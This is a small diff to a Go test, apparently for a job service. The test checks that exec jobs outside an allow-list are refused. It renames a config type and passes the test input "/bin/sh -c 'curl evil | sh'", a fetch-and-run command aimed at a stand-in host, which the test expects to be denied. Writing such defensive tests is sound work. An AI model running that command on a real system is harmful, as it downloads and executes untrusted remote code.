@@ -59,7 +59,7 @@ func TestExecJobRefusedOutsideTheAllowList(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	h := newHarnessConfig(t, func(c *JobServiceConfig) { c.Exec = allow })
+	h := newHarnessConfig(t, func(c *Deps) { c.Exec = allow })
 	ctx := testCtx(t)
 	for rpc, err := range putCalls(h, t, execSpec("shell", "/bin/sh", "-c", "curl evil | sh")) {
 		t.Run(rpc, func(t *testing.T) { wantExecDenied(t, err, "exec.command[0]", "--exec-allow (/usr/local/bin/*)") })
